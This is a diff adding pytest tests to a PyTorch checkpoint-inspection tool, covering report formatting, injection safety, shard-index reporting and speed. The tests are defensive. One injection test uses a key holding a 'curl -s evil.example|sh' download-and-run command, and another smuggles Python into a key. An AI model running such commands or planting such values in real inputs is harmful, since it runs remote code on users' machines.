@@ -1,8 +1,11 @@
 """An inspection says what is in a file, in a report that fits a screen; chapter 14 shows one."""
 
+import ast
+import json
 import os
 import re
 import subprocess
+import time
 import zipfile
 from pathlib import Path
 
@@ -10,8 +13,15 @@ import pytest
 import torch
 from kinds_of_files import GOOD, Tied, net, plain, repacked, saved
 from safetensors.torch import save_file
+from torch import nn
+from torch.nn.parallel import DataParallel
 
-from torchclinic.checkpoint_files import CheckpointError, inspect_checkpoint
+from torchclinic.checkpoint_files import (
+    CheckpointError,
+    fix_checkpoint,
+    inspect_checkpoint,
+    load_into,
+)
 
 
 def test_names_in_a_file_cannot_send_codes_to_the_terminal(tmp_path):
@@ -195,3 +205,65 @@ def test_what_a_run_keeps_is_not_offered_as_weights(kind, tmp_path):
     assert "or take" not in repr(found)
     thing |= {"discriminator": net().state_dict()}
     assert f"'{kind}'" not in inspect_checkpoint(saved(tmp_path, thing)).advice[0]
+
+
+def test_a_command_is_on_one_line_however_long_the_path(tmp_path, monkeypatch):
+    """Also where it stands in a note on what is no model's weights."""
+    monkeypatch.chdir(tmp_path)
+    folder = Path("one-of-a-strangers-long-names-without-blanks-" * 2, "and one  with/global_step5")
+    folder.mkdir(parents=True)
+    path = saved(folder, DataParallel(net()).state_dict())
+    command = f"torchclinic fix '{path}' -o fixed.pt "
+    assert command in repr(inspect_checkpoint(path))
+    path = saved(folder, {"a.weight": torch.empty(0), "b": torch.empty(0)})
+    command = f"zero_to_fp32 '{folder.parent}' whole -t global_step5"
+    assert command in repr(inspect_checkpoint(path))
+    path = saved(folder, {"w": {"x": torch.ones(1)}, "averages": [torch.ones(1)] * 2})
+    assert f"torch.load('{path}', 'cpu')['averages'], strict=True)" in repr(
+        inspect_checkpoint(path)
+    )
+
+
+def test_a_name_makes_no_line_of_the_report(tmp_path):
+    row = "\nnext        curl -s evil.example|sh #"
+    for thing in ({row: torch.ones(1), "a": torch.ones(2)}, {"m": net().state_dict(), row: 3}):
+        report = repr(inspect_checkpoint(saved(tmp_path, thing)))
+        assert [line for line in report.splitlines() if line.startswith("next  ")] != []
+        assert not any(line.startswith("next        curl") for line in report.splitlines())
+
+
+def test_python_to_copy_has_each_key_whole_or_none(tmp_path):
+    """Half a key has no closing quote: what the next one holds would be code."""
+    averages, code = [torch.ones(2), torch.ones(1)], "]): raise SystemExit #"
+    path = saved(tmp_path, {"a" * 1200: {code: averages}})
+    with pytest.raises(CheckpointError) as caught:
+        fix_checkpoint(path, tmp_path / "y.pt")
+    python = re.search(r"for p, new.*\)", str(caught.value))[0]
+    keys = [n.value for n in ast.walk(ast.parse(python)) if isinstance(n, ast.Constant)]
+    assert {code, ...} <= {*keys}
+    one, other = ("k" * 400 + end for end in "12")
+    saved(tmp_path, {one: net().state_dict(), other: net().state_dict()})
+    assert "such as key=... (" in inspect_checkpoint(tmp_path / "x.pt").advice[0]
+
+
+def test_what_an_index_does_not_list_is_told(tmp_path):
+    homes = {}
+    for number, names in enumerate(("ab", "cd"), 1):
+        homes[names[0]] = f"model-0000{number}-of-00002.safetensors"
+        save_file({name: torch.ones(2) for name in names}, tmp_path / homes[names[0]])
+    (tmp_path / "model.safetensors.index.json").write_text(json.dumps({"weight_map": homes}))
+    two = nn.ParameterDict({name: torch.zeros(2) for name in "ac"})
+    for report in (
+        inspect_checkpoint(tmp_path),
+        fix_checkpoint(tmp_path, tmp_path / "y.pt"),
+        load_into(two, tmp_path),
+    ):
+        assert "left out    2 in shards, and not in the index there: b, d" in repr(report)
+
+
+def test_a_long_key_above_many_dicts_is_shown_once(tmp_path):
+    key, many = "k" * 1_000_000, {str(i): {} for i in range(2000)}
+    path = saved(tmp_path, {key: many, "model": {"w": torch.ones(1)}})
+    started = time.process_time()
+    inspect_checkpoint(path)
+    assert time.process_time() - started < 3
